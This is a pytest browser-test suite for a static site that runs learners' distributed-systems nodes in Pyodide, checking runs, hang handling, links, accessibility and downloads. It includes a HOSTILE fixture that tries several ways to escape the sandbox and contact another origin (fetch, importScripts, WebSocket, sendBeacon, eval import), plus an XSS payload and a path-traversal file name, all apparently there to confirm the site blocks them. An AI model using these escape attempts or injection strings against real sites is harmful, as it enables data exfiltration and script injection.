"""The site in a browser: nodes are edited, run, checked, explored and stopped where they stand."""

import base64
import json
import threading
import zlib
from functools import partial
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer

import pytest

from glomers.series.live_site import build_site
from glomers.series.notebook import read_notebook
from glomers.series.pyodide_package import PYODIDE
from tests.helpers.axe import serious
from tests.helpers.chromium import Chromium, find_chromium
from tests.helpers.dead_links import dead_links
from tests.helpers.places import ROOT, SOLUTIONS
from tests.helpers.sparing import every
from tests.helpers.stepping import Stepping
from tests.helpers.webassembly import needed

pytestmark = pytest.mark.slow

LESSON = "03c-broadcast-faults"
ONCE, RETRY = 0, 1  # the live cells of that lesson
SITE_MB = 20
RUNTIME_MB = 10
CTRL = 2


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    needed("package pyodide (`make runtime` fetches it)", PYODIDE.is_there())
    folder = tmp_path_factory.mktemp("site")
    build_site(ROOT, folder)
    return folder


@pytest.fixture(scope="module")
def browser():
    with Chromium(needed("Chromium", find_chromium())) as browser:
        yield browser


class Requests(list):
    """The requests that a server has had."""


def _serve(handler):
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


@pytest.fixture(scope="module")
def server(site):
    class Quiet(SimpleHTTPRequestHandler):
        def log_message(self, *_):
            pass

    server = _serve(partial(Quiet, directory=str(site)))
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def elsewhere():
    """Another origin, with the requests that it has had."""
    seen = Requests()

    class Heard(BaseHTTPRequestHandler):
        def do_GET(self):
            seen.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_):
            pass

    server = _serve(Heard)
    seen.address = f"127.0.0.1:{server.server_port}"
    yield seen
    server.shutdown()
    server.server_close()


# From a server most is done in tests of its own.
FROM_SERVER = pytest.param("http", marks=pytest.mark.whole_corpus)


@pytest.fixture(scope="module", params=[FROM_SERVER, "file"])
def at(request, site):
    """The address of a page of the site, from a server and in a folder."""
    if request.param == "file":
        return lambda name: (site / name).as_uri()
    address = request.getfixturevalue("server")
    return lambda name: f"{address}/{name}"


class Cell:
    """A live cell, or the playground's panel."""

    def __init__(self, visit, number=0):
        self.visit = visit
        self.place = f"document.querySelectorAll('.panel')[{number}]"

    def press(self, name):
        self.visit.run(f"{self._button(name)}.click()")

    def _button(self, name):
        return f"[...{self.place}.querySelectorAll('button')].find(b => b.textContent === '{name}')"

    def is_able(self, name):
        return self.visit.run(f"!{self._button(name)}.disabled")

    def wait(self):
        """Until what was begun has ended."""
        self.visit.wait(f"{self._button('Stop')}.disabled")

    def do(self, name):
        self.press(name)
        self.wait()
        return self.result

    @property
    def result(self):
        return self.visit.run(f"{self.place}.querySelector('.result').innerText")

    @property
    def status(self):
        return self.visit.run(f"{self.place}.querySelector('.status').textContent")

    @property
    def text(self):
        return self.visit.run(f"{self.place}.querySelector('textarea').value")

    def write(self, text):
        self.focus()
        self.visit.run(f"{self.place}.querySelector('textarea').select()")
        self.visit.type(text)

    def focus(self):
        self.visit.run(f"{self.place}.querySelector('textarea').focus()")


def stepping(cell, visit):
    """The page below the picture of a cell's result."""
    cell.press("Step through it")
    visit.wait(f"{cell.place}.querySelector('iframe') !== null")
    return Stepping(visit.frame())


def link(source, command="test -w echo --bin node.py --node-count 1 --time-limit 1", **others):
    """The fragment of a link to the playground."""
    content = {"files": {"node.py": source}, "command": command, "seed": 0}
    content |= {"challenge": None, "check": None, **others}
    packer = zlib.compressobj(wbits=-15)
    packed = packer.compress(json.dumps(content).encode()) + packer.flush()
    return "#n=" + base64.urlsafe_b64encode(packed).decode().rstrip("=")


ECHO = (SOLUTIONS / "echo.py").read_text(encoding="utf-8")


def test_the_site_is_small_enough_and_says_what_it_is_made_of(site):
    files = [path for path in site.iterdir() if path.is_file()]
    runtime = [path for path in files if path.name.startswith("runtime-")]
    assert len(runtime) == 1
    assert runtime[0].stat().st_size <= RUNTIME_MB * 1e6
    assert sum(path.stat().st_size for path in files) <= SITE_MB * 1e6
    for notice in (
        runtime[0].read_text(encoding="utf-8")[:2000],
        (site / "NOTICE.txt").read_text(),
    ):
        assert "Mozilla Public License 2.0" in notice
        assert PYODIDE.version in notice


def test_every_link_of_the_site_leads_to_a_place_that_is_there(site):
    assert dead_links(site) == []


def test_a_run_gives_the_figures_of_the_page_and_nothing_else_is_asked_for(browser, at, site):
    visit = browser.tab(at(f"{LESSON}.html"))
    cell = Cell(visit, RETRY)
    result = cell.do("Run")
    notebook = read_notebook(ROOT / "notebooks" / f"{LESSON}.ipynb")
    outputs = [output for each in notebook.code_cells for output in each.outputs]
    texts = ["".join(each.get("data", {}).get("text/plain", "")) for each in outputs]
    shown = next(text for text in texts if "broadcast_retry" in text and "per operation" in text)
    for line in shown.splitlines()[3:]:
        assert line in result
    assert "✓ valid" in result
    found = visit.findings()
    assert found.errors == []
    assert found.missing_images == []
    runtime = next(site.glob("runtime-*.js")).name
    names = ["code.js", "results.js", "live.js", "playground.js", runtime]
    assert found.requests == [at(name) for name in names]
    visit.close()


def test_after_the_first_run_no_network_is_needed(browser, server):
    visit = browser.tab(f"{server}/{LESSON}.html")
    cell = Cell(visit, ONCE)
    assert "✗ invalid" in cell.do("Run")
    slow = {"latency": 0, "downloadThroughput": 0, "uploadThroughput": 0}
    visit.call("Network.emulateNetworkConditions", offline=True, **slow)
    cell.write((SOLUTIONS / "broadcast_retry.py").read_text(encoding="utf-8"))
    assert "✓ valid" in cell.do("Run")
    cell.press("Reset")
    visit.close()


LOOP = ECHO.replace("    return", "    while True:\n        pass\n    return")
DEAF = ECHO.replace("    return", "    sum(iter(int, 1))\n    return")
"""It never comes back to Python, which could interrupt it."""


def test_a_node_that_hangs_ends_by_itself_with_its_line(browser, server):
    visit = browser.tab(f"{server}/01-exercise.html")
    cell = Cell(visit)
    cell.write(LOOP)
    assert "hangs" in cell.do("Run")
    assert "Does a loop never await?" in cell.result
    marked = visit.run("document.querySelector('.editor .bad').textContent")
    assert LOOP.splitlines()[int(marked) - 1].strip() in ("while True:", "pass")
    cell.press("Reset")
    visit.close()


def test_a_node_that_cannot_be_ended_is_stopped(browser, at):
    visit = browser.tab(at("01-exercise.html"))
    cell = Cell(visit)
    cell.write(DEAF)
    cell.press("Run")
    visit.wait("document.querySelector('.status').textContent === 'Running …'")
    assert cell.is_able("Stop")
    cell.do("Stop")
    assert "Stopped after" in cell.status
    cell.write(ECHO)
    assert "✓ valid" in cell.do("Run")
    cell.press("Reset")
    visit.close()


def test_an_error_is_marked_at_its_line_and_the_mark_goes_with_the_next_change(browser, server):
    visit = browser.tab(f"{server}/01-exercise.html")
    cell = Cell(visit)
    cell.write("from glomers.node import Node\n\nnode = (\n")
    assert "was never closed" in cell.do("Run")
    assert visit.run("document.querySelector('.editor .bad').textContent") == "3"
    visit.run("document.querySelector('.result .place').click()")
    assert visit.run("document.activeElement.selectionStart") == 31
    visit.type("x")
    assert visit.run("document.querySelector('.editor .bad')") is None
    cell.press("Reset")
    visit.close()


def test_a_draft_is_kept_and_reset_brings_the_node_back(browser, at):
    visit = browser.tab(at("02-exercise.html"))
    cell = Cell(visit)
    original = cell.text
    assert original.startswith("import")
    cell.write("# mine\n")
    visit.close()
    visit = browser.tab(at("02-exercise.html"))
    cell = Cell(visit)
    assert cell.text == "# mine\n"
    assert "Reset brings back" in cell.status
    cell.press("Reset")
    assert cell.text == original
    visit.close()
    visit = browser.tab(at("02-exercise.html"))
    assert Cell(visit).text == original
    visit.close()


def test_the_editor_indents_undoes_and_lets_go(browser, server):
    visit = browser.tab(f"{server}/01-exercise.html")
    cell = Cell(visit)
    cell.write("def f():")
    visit.press("Enter")
    visit.type("return 1")
    assert cell.text == "def f():\n    return 1"
    visit.press("[", CTRL)
    assert cell.text == "def f():\nreturn 1"
    visit.press("]", CTRL)
    assert cell.text == "def f():\n    return 1"
    visit.run("document.execCommand('undo')")
    assert cell.text == "def f():\nreturn 1"
    visit.press("Tab")
    assert visit.run("document.activeElement.tagName") != "TEXTAREA"
    cell.press("Reset")
    visit.close()


def test_an_exercise_is_checked_stage_by_stage(browser, at):
    visit = browser.tab(at("01-exercise.html"))
    cell = Cell(visit)
    cell.press("Reset")
    assert "✗" in cell.do("Check")
    marked = visit.run("document.querySelector('.editor .bad').textContent")
    assert "NotImplementedError" in cell.text.splitlines()[int(marked) - 1]
    cell.write(ECHO)
    assert "✗" not in cell.do("Check")
    assert "✓ one node is right" in cell.result
    assert "How much that proves" in cell.result
    cell.press("Reset")
    visit.close()


def test_an_exploration_finds_the_smallest_failure(browser, server):
    visit = browser.tab(f"{server}/{LESSON}.html")
    cell = Cell(visit, ONCE)
    result = cell.do("Explore")
    assert "of 30 seeds fail: lost" in result
    assert "The smallest failure that was found" in result
    image = f"{cell.place}.querySelector('.result img')"
    assert visit.run(f"{image}.naturalWidth") > 100
    assert visit.run(f"{image}.alt").startswith("Space-time diagram: n")
    steps = stepping(cell, visit)
    steps.tab.run(f"{steps.named('Jump to failure')}.click()")
    assert steps.event > 0
    visit.close()


def test_one_steps_through_a_run_with_what_its_nodes_knew(browser, at):
    visit = browser.tab(at(f"{LESSON}.html"))
    cell = Cell(visit, RETRY)
    cell.do("Run")
    steps = stepping(cell, visit)
    for event in (2, 3):
        steps.tab.run(f"{steps.named('Next event')}.click()")
        assert steps.event == event
    assert "seen" in steps.tab.run("document.body.innerText")
    assert visit.findings().errors == []
    visit.close()


def test_the_playground_runs_what_its_menu_offers_and_gives_a_link_to_it(browser, at):
    visit = browser.tab(at("playground.html"))
    names = visit.run("[...document.querySelectorAll('option')].map(o => o.textContent)")
    assert any("broadcast_retry" in name for name in names)
    assert len([name for name in names if "ten attempts" in name]) == 1
    groups = visit.run("[...document.querySelectorAll('optgroup')].map(o => o.label)")
    assert groups == ["Nodes of the series", "Find the bug", "Known to be wrong"]
    cell = Cell(visit)
    assert "✓ valid" in cell.do("Run")
    cell.press("Copy a link")
    visit.wait("location.hash.startsWith('#n=')")
    address = visit.run("location.href")
    visit.close()
    visit = browser.tab(address)
    visit.wait("!document.querySelector('.note').hidden")
    assert "Nothing has run" in visit.run("document.querySelector('.note').textContent")
    assert Cell(visit).text == ECHO
    visit.close()


@pytest.mark.parametrize(
    "fragment",
    ["#n=AAAA", "#n=%00", "#n=" + "A" * 300_000, link("x", seed="1"), link("x", files={})],
)
def test_a_link_without_a_node_is_refused_in_a_sentence(browser, server, fragment):
    visit = browser.tab(f"{server}/playground.html{fragment}")
    visit.wait("!document.querySelector('#playground .note').hidden")
    said = visit.run("document.querySelector('#playground .note').textContent")
    assert "holds no node that can be read" in said
    assert visit.findings().errors == []
    visit.close()


HOSTILE = """
import js
from glomers.node import Node

node = Node()
ADDRESS = "{address}"
js.postMessage("a word out of turn")


@node.on("echo")
def echo(message):
    for way in (
        lambda: js.fetch("http://" + ADDRESS + "/fetch"),
        lambda: js.Function.new("return fetch('http://" + ADDRESS + "/function')")(),
        lambda: js.WorkerGlobalScope.prototype.fetch.call(js.self, "http://" + ADDRESS + "/proto"),
        lambda: js.WorkerGlobalScope.prototype.importScripts.call(
            js.self, "http://" + ADDRESS + "/script"
        ),
        lambda: js.WebSocket.new("ws://" + ADDRESS + "/socket"),
        lambda: js.eval("import('http://" + ADDRESS + "/module')"),
        lambda: js.navigator.sendBeacon("http://" + ADDRESS + "/beacon"),
        lambda: js.document,
    ):
        try:
            way()
        except BaseException:
            pass
    raise ValueError("<img src=x onerror=document.title='owned'><script>x</script>")


node.run()
"""


def test_a_hostile_link_runs_nothing_by_itself_and_reaches_nothing_when_run(
    browser, server, elsewhere
):
    source = HOSTILE.replace("{address}", elsewhere.address)
    visit = browser.tab(f"{server}/playground.html{link(source)}")
    visit.wait("!document.querySelector('.note').hidden")
    title = visit.run("document.title")
    before = visit.findings().requests
    assert not [each for each in before if "runtime" in each]
    cell = Cell(visit)
    cell.do("Run")
    visit.run("new Promise(done => setTimeout(done, 500))")
    assert list(elsewhere) == []
    assert [each for each in visit.findings().requests if not each.startswith(server)] == []
    assert visit.run("document.title") == title
    assert visit.run("document.querySelector('.result img[src=x], .result script')") is None
    visit.close()


FLOODS = ECHO.replace(
    "    return",
    "    for number in range(10**9):\n        node.send('n0', {'type': 'more'})\n    return",
)


def test_a_node_that_floods_leaves_the_page_alive_and_is_stopped(browser, server):
    visit = browser.tab(f"{server}/playground.html{link(FLOODS)}")
    visit.wait("!document.querySelector('.note').hidden")
    cell = Cell(visit)
    cell.press("Run")
    visit.wait("document.querySelector('.status').textContent === 'Running …'")
    if cell.is_able("Stop"):  # the bench may have been quicker
        cell.do("Stop")
    assert "Stopped after" in cell.status or "broken" in cell.status
    cell.write(ECHO)
    assert "✓ valid" in cell.do("Run")
    visit.close()


@pytest.mark.parametrize(
    "name", every(4, [f"{LESSON}.html", "01-exercise.html", "playground.html", "index.html"])
)
def test_pages_can_be_used_by_everybody(browser, server, name):
    visit = browser.tab(f"{server}/{name}", width=360)
    if name != "index.html":
        Cell(visit).do("Run")
    for width in (360, 1200):
        for scheme in ("light", "dark"):
            visit.look(width, 900, scheme)
            assert serious(visit) == [], (width, scheme)
            assert visit.run("document.documentElement.scrollWidth") <= width
    visit.close()


CUT = """
[...document.querySelectorAll('.editor, .editor .colours')].filter(e =>
  !e.clientHeight || /auto|scroll|hidden/.test(getComputedStyle(e).overflowY)
  || e.scrollHeight > e.clientHeight + 1 || e.scrollWidth > e.clientWidth + 1).length
"""
OUT_OF_STEP = """
[...document.querySelectorAll('.editor')].filter(e => {
  const [numbers, code] = ['.numbers', '.colours code'].map(
    part => e.querySelector(part).getBoundingClientRect());
  return Math.abs(numbers.top - code.top) > 6 || Math.abs(numbers.bottom - code.bottom) > 20;
}).length
"""


@pytest.mark.parametrize("name", [f"{LESSON}.html", "03d-broadcast-efficient.html"])
def test_on_paper_programs_stand_whole_beside_the_numbers_of_their_lines(browser, server, name):
    visit = browser.tab(f"{server}/{name}", width=680, media="print")
    assert visit.run("document.querySelectorAll('.editor').length") > 1
    assert visit.run(CUT) == 0
    assert visit.run(OUT_OF_STEP) == 0
    visit.close()


def test_without_scripts_a_page_is_what_the_export_makes_of_it(browser, server):
    off = "Object.defineProperty(self, 'WebAssembly', {value: undefined}); delete self.WebAssembly;"
    visit = browser.tab(f"{server}/{LESSON}.html", before=off)
    assert visit.run("document.querySelectorAll('.panel').length") == 0
    assert "%%writefile nodes/broadcast_once.py" in visit.run("document.body.innerText")
    visit.close()


KEEPS = """
self.kept = [];
const make = URL.createObjectURL.bind(URL);
URL.createObjectURL = (blob) => { self.kept.push(blob); return make(blob); };
"""
WITH_HELPER = ECHO.replace("\nnode = ", "\nfrom helper import shout\n\nnode = ")


def test_what_is_made_can_be_taken_home(browser, server):
    visit = browser.tab(f"{server}/playground.html{link(ECHO)}", before=KEEPS)
    visit.wait("!document.querySelector('.note').hidden")
    cell = Cell(visit)
    cell.press("Download")
    text = visit.run("self.kept.at(-1).text()")
    assert text == f"#!/usr/bin/env python3\n{ECHO}"
    cell.do("Run")
    cell.press("Download the store")
    visit.wait("self.kept.at(-1).type === 'application/zip'")
    begin = visit.run("self.kept.at(-1).slice(0, 2).text()")
    assert begin == "PK"
    visit.close()


def test_a_node_of_one_s_own_has_files_beside_it_and_arguments(browser, server):
    source = WITH_HELPER.replace("shout", "shout as _")
    visit = browser.tab(f"{server}/playground.html{link(source)}")
    visit.wait("!document.querySelector('.note').hidden")
    cell = Cell(visit)
    assert "No module named 'helper'" in cell.do("Run")
    cell.press("Add a file")
    visit.run("document.querySelector('.other textarea').focus()")
    visit.type("import sys\n\nassert sys.argv[1] == 'loud'\nshout = str.upper\n")
    line = "-w echo --node-count 1 --time-limit 1 -- loud"
    visit.run(f"document.querySelectorAll('.fields input')[0].value = '{line}'")
    assert "✓ valid" in cell.do("Run")
    visit.close()


def test_loading_is_stopped_at_once_and_nothing_runs(browser, at):
    visit = browser.tab(at(f"{LESSON}.html"))
    cell = Cell(visit, RETRY)
    cell.press("Run")
    cell.press("Stop")
    cell.wait()
    assert cell.status == "Stopped before it began: nothing has run."
    assert "✓ valid" in cell.do("Run")
    visit.close()


def test_nothing_is_taken_home_while_a_run_is_at_work(browser, site):
    visit = browser.tab((site / "playground.html").as_uri())
    cell = Cell(visit)
    cell.do("Run")
    cell.press("Explore")
    visit.run(f"{cell._button('Download the store')}.click()")
    assert "stop it first" in cell.status
    cell.press("Stop")
    cell.wait()
    assert "✓ valid" in cell.do("Run")
    visit.close()


def test_what_was_typed_comes_back_after_a_reset_and_on_the_next_visit(browser, site):
    for name in (f"{LESSON}.html", "playground.html"):
        visit = browser.tab((site / name).as_uri())
        cell = Cell(visit)
        begun = cell.text
        cell.write("mine")
        cell.press("Reset")
        assert cell.text == begun
        cell.press("Bring mine back")
        assert cell.text == "mine"
        visit.close()
        visit = browser.tab((site / name).as_uri())
        assert Cell(visit).text == "mine"
        Cell(visit).press("Reset")
        visit.close()


def test_a_result_marks_no_line_of_a_text_that_came_later(browser, site):
    visit = browser.tab((site / "01-exercise.html").as_uri())
    cell = Cell(visit)
    cell.write(ECHO.replace("    return", "    oops\n    return"))
    cell.press("Run")
    cell.write(ECHO)
    cell.wait()
    assert "as it was then" in cell.status
    assert not visit.run(f"{cell.place}.querySelector('.editor .bad')")
    cell.press("Reset")
    visit.close()


def test_a_node_does_not_write_the_page_to_step_through_its_run(browser, site):
    visit = browser.tab((site / "01-exercise.html").as_uri())
    cell = Cell(visit)
    own = "desk.page = lambda *_: '<title>mine</title><link rel=preconnect href=http://a.test>'"
    cell.write(f"from glomers.workshop import desk\n\n{own}\n{ECHO}")
    cell.do("Run")
    cell.press("Step through it")
    visit.wait(f"{cell.place}.querySelector('iframe') !== null")
    page = visit.run(f"{cell.place}.querySelector('iframe').srcdoc")
    assert "preconnect" not in page
    assert "<h1>mine</h1>" in page
    cell.press("Reset")
    visit.close()


@pytest.mark.parametrize("inherited", ["indexedDB", "caches"])
def test_a_node_reaches_nothing_that_is_kept_beyond_a_visit(browser, site, inherited):
    visit = browser.tab((site / "01-exercise.html").as_uri())
    cell = Cell(visit)
    kept = f"js.Object.getOwnPropertyDescriptor(js.WorkerGlobalScope.prototype, '{inherited}')"
    raised = f"raise ValueError(['shut', js.Reflect.get({kept}, 'get'), js.navigator.storage])"
    cell.write("import js\n" + ECHO.replace("    return", f"    {raised}\n    return"))
    result = cell.do("Run")
    assert "['shut', None, None]" in result.replace("undefined", "None")
    cell.press("Reset")
    visit.close()


def test_a_loop_that_does_much_in_each_turn_is_interrupted_too(browser, site):
    visit = browser.tab((site / "01-exercise.html").as_uri())
    cell = Cell(visit)
    cell.write(
        ECHO.replace("    return", "    while True:\n        sum(range(100_000))\n    return")
    )
    assert "hangs" in cell.do("Run")
    assert visit.run("document.querySelector('.editor .bad').textContent") in ("8", "9")
    cell.press("Reset")
    visit.close()


@pytest.mark.parametrize("text", ["\n" * 60_000, "a" * 10_000_000])
def test_a_short_link_that_holds_very_much_is_refused(browser, site, text):
    visit = browser.tab((site / "playground.html").as_uri() + link(text))
    visit.wait("document.querySelector('.note').textContent")
    assert "holds no node that can be read" in visit.run(
        "document.querySelector('.note').textContent"
    )
    visit.close()


def test_ctrl_enter_leaves_the_caret_where_it_is(browser, site):
    visit = browser.tab((site / f"{LESSON}.html").as_uri())
    cell = Cell(visit, RETRY)
    cell.focus()
    visit.press("Enter", CTRL)
    cell.wait()
    assert "The run is valid" in cell.status
    assert visit.run("document.activeElement.tagName") == "TEXTAREA"
    visit.close()


@pytest.mark.parametrize("name", ["../up.py", "helper", "node.py"])
def test_a_file_of_another_name_is_refused_in_a_sentence(browser, site, name):
    visit = browser.tab((site / "playground.html").as_uri())
    cell = Cell(visit)
    visit.run(f"{cell._button('Add a file')}.click()")
    visit.run(f"document.querySelector('.other input').value = '{name}'")
    assert ".py" in cell.do("Run")
    assert "valid" not in cell.result
    visit.close()
